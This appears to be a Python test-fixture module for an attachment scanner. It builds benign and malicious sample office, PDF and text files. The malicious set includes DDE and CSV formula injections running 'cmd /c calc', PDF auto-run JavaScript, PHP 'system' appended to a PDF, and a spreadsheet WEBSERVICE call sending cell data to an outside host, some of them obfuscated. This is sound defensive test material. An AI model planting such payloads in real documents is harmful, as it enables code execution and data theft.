"""Documents made for the tests, by hand where no library would write such a thing: name -> (make, file name)."""

import io
import zlib

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.attachments import making
from tests.attachments.making import archive, content_types, docx, odt, pdf, relations, xlsx

PAGES = {
    1: b"<</Type/Catalog/Pages 2 0 R>>",
    2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
    3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
}


def written(objects=None, *, catalog=b"", page=b"", head=b"%PDF-1.4\n", trailer=b"", end=b"%%EOF\n"):
    """A PDF of one page from its objects; `catalog` and `page` add entries to those two."""
    objects = {**PAGES, **(objects or {})}
    objects[1] = objects[1][:-2] + catalog + b">>"
    objects[3] = objects[3][:-2] + page + b">>"
    out, places = head, {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % places.get(number, 0) for number in range(1, size))
    return out + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n" % (size, trailer, table) + end


def stream(data, entries=b""):
    packed = zlib.compress(data, 9)
    return b"<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (entries, len(packed), packed)


def opening(action):
    return lambda: written(catalog=b"/OpenAction<<" + action + b">>")


def link(action):
    return lambda: written(page=b"/Annots[<</Type/Annot/Subtype/Link/A<<" + action + b">>>>]")


def encrypted(algorithm, user="", script=False):
    writer = PdfWriter()
    writer.add_blank_page(9, 9)
    if script:
        entries = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")}
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(entries))
    writer.encrypt(user, "owner", algorithm=algorithm)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def related(kind, target, mode="External"):
    return lambda: docx(word___rels__document_dot_xml_dot_rels=relations(kind, target, mode))


def word(content):
    return lambda: docx(word__document_dot_xml=content)


def sheet(formula):
    return lambda: xlsx(xl__worksheets__sheet1_dot_xml=f"<worksheet><c><f>{formula}</f></c></worksheet>")


def linked_workbook(target):
    return lambda: xlsx(xl__externalLinks___rels__externalLink1_dot_xml_dot_rels=relations("externalLinkPath", target))


def writer_text(content):
    return lambda: odt(content_dot_xml=f"<office>{content}</office>")


def slides(content):
    main = content_types(making.TYPES + "presentationml.presentation.main+xml")
    return lambda: archive({"[Content_Types].xml": main, "ppt/slides/slide1.xml": content})


DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
LAYOUT = '<m:manifest><m:file-entry m:full-path="layout-cache" m:media-type="application/binary"/></m:manifest>'
DOCTYPE = '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest/>'

GOOD = {
    "pdf_behind_mail_header": (lambda: b"\r\nX-Mail: 1\r\n" + written(), "x.pdf"),
    "pdf_with_wrong_table": (lambda: written().replace(b"startxref\n", b"startxref\n9"), "x.pdf"),
    "pdf_with_blank_tail": (lambda: written() + b"\r\n" * 3000, "x.pdf"),
    "pdf_with_stray_tail": (lambda: written() + b"x" * 500, "x.pdf"),
    "pdf_named_jpg": (written, "x.jpg"),
    "pdf_version_2": (lambda: written(head=b"%PDF-2.0\n"), "x.pdf"),
    "pdf_opens_at_page": (lambda: written(catalog=b"/OpenAction[3 0 R/Fit]"), "x.pdf"),
    "pdf_goes_to_page": (opening(b"/S/GoTo/D[3 0 R/Fit]"), "x.pdf"),
    "pdf_opens_print_window": (opening(b"/S/Named/N/Print"), "x.pdf"),
    "pdf_with_form": (lambda: written(catalog=b"/AcroForm<</Fields[]>>"), "x.pdf"),
    "pdf_about_scripts": (lambda: written({4: stream(b"BT (JavaScript, Launch) Tj ET")}), "x.pdf"),
    "pdf_with_web_link": (link(b"/S/URI/URI(https://example.org/)"), "x.pdf"),
    "pdf_with_mail_link": (link(b"/S/URI/URI(mailto:desk@example.org)"), "x.pdf"),
    "pdf_with_link_to_own_disk": (link(b"/S/URI/URI(file:///C:/letter.docx)"), "x.pdf"),
    "pdf_whose_table_loops": (lambda: written(trailer=b"/Prev %d" % written().rindex(b"xref\n0")), "x.pdf"),
    "pdf_that_lies_about_pages": (lambda: written({2: b"<</Type/Pages/Count 2000000000/Kids[3 0 R]>>"}), "x.pdf"),
    "pdf_that_may_not_be_changed_rc4": (lambda: encrypted("RC4-128"), "x.pdf"),
    "pdf_that_may_not_be_changed_aes": (lambda: encrypted("AES-256"), "x.pdf"),
    "docx_with_links": (related("hyperlink", "https://example.org/"), "x.docx"),
    "docx_with_link_to_share": (related("hyperlink", r"\\server\plans"), "x.docx"),
    "docx_with_linked_picture_on_own_disk": (related("image", r"file:///C:\Users\a\p.png"), "x.docx"),
    "docx_with_linked_picture_on_own_mac": (related("image", "file://localhost/Users/a/p.png"), "x.docx"),
    "docx_with_own_template": (related("attachedTemplate", "Normal.dotm"), "x.docx"),
    "docx_with_fields": (
        word(
            r'<w:p><w:instrText> TOC \o "1-3" </w:instrText><w:instrText>HYPERLINK "https://e.org/dde/x"</w:instrText>'
            "<w:t>DDE stands for something</w:t></w:p>"
        ),
        "x.docx",
    ),
    "docx_with_drawing": (lambda: docx(word__media__a_dot_svg='<svg xmlns="http://www.w3.org/2000/svg"/>'), "x.docx"),
    "docx_with_font_and_metafile": (
        lambda: docx(word__fonts__font1_dot_odttf=b"\1\2" * 50, word__media__image1_dot_emf=b"\1\0\0\0" + bytes(90)),
        "x.docx",
    ),
    "xlsx_with_formula": (sheet("SUM(A1:A2)&amp;&quot;|&quot;&amp;'a|b'!A1"), "x.xlsx"),
    "xlsx_linked_to_own_workbook": (linked_workbook(r"file:///C:\book.xlsx"), "x.xlsx"),
    "pptx_with_jump": (slides('<a:hlinkClick action="ppaction://hlinksldjump"/>'), "x.pptx"),
    "odt_with_layout_cache": (lambda: odt(LAYOUT, **{"layout-cache": b"\1\2"}), "x.odt"),
    "odt_of_open_office": (lambda: odt('<?xml version="1.0"?>' + DOCTYPE), "x.odt"),
    "odt_with_link": (writer_text('<text:a xlink:href="https://example.org/">x</text:a>'), "x.odt"),
    "odt_with_chart": (writer_text('<draw:object xlink:href="./Object 1"/>'), "x.odt"),
    "utf16_txt": (lambda: "Größe 漏水 unit".encode("utf-16"), "x.txt"),
    "utf16_csv": (lambda: "unit\t漏水\r\n".encode("utf-16"), "x.csv"),
    "western_csv": (lambda: "Größe; Übergabe – “x”\r\n".encode("cp1252"), "x.csv"),
    "russian_txt": (lambda: "Протечка воды".encode("cp1251"), "x.txt"),
    "big5_txt": (lambda: "漏水請處理".encode("big5"), "x.txt"),
    "txt_about_html": (lambda: b"The page says <script>alert(1)</script>.", "x.txt"),
    "txt_that_begins_like_a_program": (lambda: b"MZ 12 leaks", "x.TXT"),
    "csv_with_formula": (lambda: b"a,=SUM(A1:A2)\n-5|x!,b|c!\n", "x.csv"),
    "csv_of_dos": (lambda: b"a,b\r\n\x1a", "x.csv"),
}
BAD = {
    "pdf_without_end": (lambda: written(end=b""), "x.pdf", "broken"),
    "pdf_opens_web_page": (opening(b"/S/URI/URI(https://e.org)"), "x.pdf", "active"),
    "pdf_opens_share": (opening(rb"/S/GoToR/F(\\\\e\\x.pdf)/D[0/Fit]"), "x.pdf", "active"),
    "pdf_script_after_jump": (opening(b"/S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(x)>>"), "x.pdf", "active"),
    "pdf_link_is_script": (link(rb"/S/URI/URI(javascript:alert\(1\))"), "x.pdf", "active"),
    "pdf_link_to_share": (link(rb"/S/URI/URI(\\\\e\\x.exe)"), "x.pdf", "active"),
    "pdf_xfa": (lambda: written({4: stream(b"x")}, catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>"), "x.pdf", "active"),
    "pdf_script_in_escapes": (opening(b"/S/#4a#61#76#61#53#63#72#69#70#74/#4A#53(x)"), "x.pdf", "active"),
    "pdf_script_nobody_refers_to": (lambda: written({4: b"<</JS(app.alert)>>"}), "x.pdf", "active"),
    "pdf_script_in_unlisted_stream": (
        lambda: written({4: stream(b"9 0 <</S/JavaScript/JS(x)>>", b"/Type/ObjStm/N 1/First 4")}), "x.pdf", "active"),
    "pdf_script_in_update": (
        lambda: written() + b"1 0 obj\n<</OpenAction<</S/JavaScript/JS(x)>>>>\nendobj\n%%EOF", "x.pdf", "active"),
    "pdf_with_associated_file": (
        lambda: written({4: b"<</F(a.xml)/EF<</F 5 0 R>>>>", 5: stream(b"x")}, catalog=b"/AF[4 0 R]"),
        "x.pdf", "active"),
    "pdf_3d": (lambda: making.pdf_with_annotation("/3D"), "x.pdf", "active"),
    "pdf_behind_program": (lambda: b"MZ" + bytes(100) + written(), "x.pdf", "disguised"),
    "pdf_before_page": (lambda: written() + b"<html><script>alert(1)</script>", "x.pdf", "disguised"),
    "pdf_before_php": (lambda: written() + b"<?php system('id');", "x.pdf", "disguised"),
    "pdf_with_password": (lambda: encrypted("AES-256", user="secret"), "x.pdf", "locked"),
    "pdf_script_behind_owner_password": (lambda: encrypted("AES-128", script=True), "x.pdf", "active"),
    "pdf_page_is_its_parent": (lambda: written({2: b"<</Type/Pages/Count 1/Kids[2 0 R]>>"}), "x.pdf", "broken"),
    "pdf_of_deep_arrays": (lambda: written({4: b"[" * 90_000 + b"]" * 90_000}), "x.pdf", "too_heavy"),
    "pdf_of_packed_zeros": (
        lambda: written({4: stream(b"1 0 " + bytes(70_000_000), b"/Type/ObjStm/N 1/First 4")}), "x.pdf", "too_heavy"),
    "docx_link_is_script": (related("hyperlink", "javascript:alert(1)"), "x.docx", "active"),
    "docx_with_picture_on_share": (related("image", r"\\e\p.png"), "x.docx", "active"),
    "docx_with_template_on_share": (related("attachedTemplate", "file://e/t.dotm"), "x.docx", "active"),
    "docx_with_linked_object": (related("oleObject", r"file:///C:\x.doc"), "x.docx", "active"),
    "docx_with_chunk_of_html": (related("aFChunk", "x.html", "Internal"), "x.docx", "active"),
    "docx_with_part_elsewhere": (related("subDocument", "http://e.org/x"), "x.docx", "active"),
    "docx_with_data_source": (related("mailMergeSource", r"file:///C:\x.mdb"), "x.docx", "active"),
    "docx_with_ribbon": (lambda: docx(customUI__customUI_dot_xml='<customUI onLoad="x"/>'), "x.docx", "active"),
    "docx_with_renamed_macros": (
        lambda: docx("application/vnd.ms-office.vbaProject", word__a_dot_dat=b"\xcc"), "x.docx", "active"),
    "docx_with_hidden_object": (
        lambda: docx(word__a_dot_dat=b"\xd0\xcf\x11\xe0" + bytes(600)), "x.docx", "active"),
    "docx_with_embedded_archive": (
        lambda: docx(word__embeddings__a_dot_bin=archive({"a.txt": "x"})), "x.docx", "active"),
    "docx_with_embedded_pdf": (lambda: docx(word__embeddings__a_dot_bin=b"%PDF-1.4"), "x.docx", "active"),
    "docx_with_live_drawing": (lambda: docx(word__media__a_dot_svg='<svg onload="a()"/>'), "x.docx", "active"),
    "docx_dde_other_prefix": (word("<x:p><x:instrText>DDEAUTO cmd</x:instrText></x:p>"), "x.docx", "active"),
    "docx_dde_in_entities": (word("<w:instrText>D&#68;EAUTO cmd</w:instrText>"), "x.docx", "active"),
    "docx_dde_behind_other_field": (
        word('<w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>DDEAUTO c</w:instrText>'),
        "x.docx", "active"),
    "docx_dde_spelled": (word("<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>"), "x.docx", "active"),
    "docx_dde_in_simple_field": (word('<w:fldSimple w:instr="DDEAUTO cmd"/>'), "x.docx", "active"),
    "docx_fetches_picture": (
        word('<w:instrText>INCLUDEPICTURE "https://e.org/x.png" \\d</w:instrText>'), "x.docx", "active"),
    "docx_with_two_of_a_name": (lambda: docx(Word__Document_dot_xml="<a/>"), "x.docx", "disguised"),
    "docx_behind_bytes": (lambda: archive({"a.html": "<script>"})[:60] + docx(), "x.docx", "disguised"),
    "template": (
        lambda: archive({"[Content_Types].xml": content_types(making.TYPES + "wordprocessingml.template.main+xml")}),
        "x.dotx", "kind"),
    "xlsx_calls_program": (sheet("cmd|'/c calc'!A0"), "x.xlsx", "active"),
    "xlsx_fetches": (sheet("_xlfn.WEBSERVICE(&quot;http://e.org/&quot;&amp;A1)"), "x.xlsx", "active"),
    "xlsx_dde_in_utf16": (
        lambda: xlsx(xl__externalLinks__externalLink1_dot_xml=DDE.encode("utf-16")), "x.xlsx", "active"),
    "xlsx_linked_to_web": (linked_workbook("https://e.org/b.xlsx"), "x.xlsx", "active"),
    "xlsx_linked_to_share": (linked_workbook(r"file:///\\e\b.xlsx"), "x.xlsx", "active"),
    "xlsx_refreshes": (
        lambda: xlsx(xl__connections_dot_xml='<connection refreshOnLoad="1"/>'), "x.xlsx", "active"),
    "xlsx_macro_sheet": (lambda: xlsx(xl__macrosheets__sheet1_dot_xml="<a/>"), "x.xlsx", "active"),
    "pptx_starts_program": (slides('<a:hlinkClick action="ppaction://program?file=x"/>'), "x.pptx", "active"),
    "odt_event_in_styles": (lambda: odt(styles_dot_xml="<script:event-listener/>"), "x.odt", "active"),
    "odt_event_in_utf16": (
        lambda: odt(content_dot_xml="<o><script:event-listener/></o>".encode("utf-16")), "x.odt", "active"),
    "odt_python": (lambda: odt(Scripts__python__a_dot_py="x"), "x.odt", "active"),
    "odt_remote_picture": (writer_text('<draw:image xlink:href="http://e.org/x.png"/>'), "x.odt", "active"),
    "odt_link_is_macro": (writer_text('<text:a xlink:href="vnd.sun.star.script:a">x</text:a>'), "x.odt", "active"),
    "odt_frame": (writer_text('<draw:floating-frame xlink:href="x.html"/>'), "x.odt", "active"),
    "odt_section_elsewhere": (writer_text('<text:section-source xlink:href="//e/x"/>'), "x.odt", "active"),
    "csv_starts_program": (lambda: b"a,b\n=cmd|' /C calc'!A0,1\n", "x.csv", "active"),
    "svg_in_utf16": (lambda: "<svg onload=1>".encode("utf-16"), "x.txt", "kind"),
    "html_behind_comment": (lambda: b"<!-- x --><html><script>", "x.txt", "kind"),
    "php_as_txt": (lambda: b"<?php system(1);", "x.txt", "kind"),
    "film": (lambda: b"\0\0\0\x18ftypmp42" + bytes(90), "x.mp4", "media"),
    "film_as_photo": (lambda: b"\0\0\0\x14ftypqt  " + bytes(90), "x.jpg", "media"),
    "recording": (lambda: b"#!AMR\n" + bytes(90), "x.amr", "media"),
    "rar": (lambda: b"Rar!\x1a\x07\1\0" + bytes(90), "x.rar", "archive"),
    "empty_zip": (lambda: b"PK\5\6" + bytes(18), "x.zip", "archive"),
    "icon": (lambda: b"\0\0\1\0\1\0" + bytes(60), "x.ico", "kind"),
    "postscript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n", "x.eps", "kind"),
    "script_of_image_program": (lambda: b"push graphic-context\nfill 'url(https://e.org/x)'", "x.jpg", "kind"),
    "shortcut": (lambda: b"L\0\0\0\1\x14\2\0" + bytes(60), "x.lnk", "kind"),
    "installer": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900), "x.msi", "old_office"),
    "empty_pdf_page_tree": (lambda: pdf(pages=0), "x.pdf", "broken"),
}  # fmt: skip
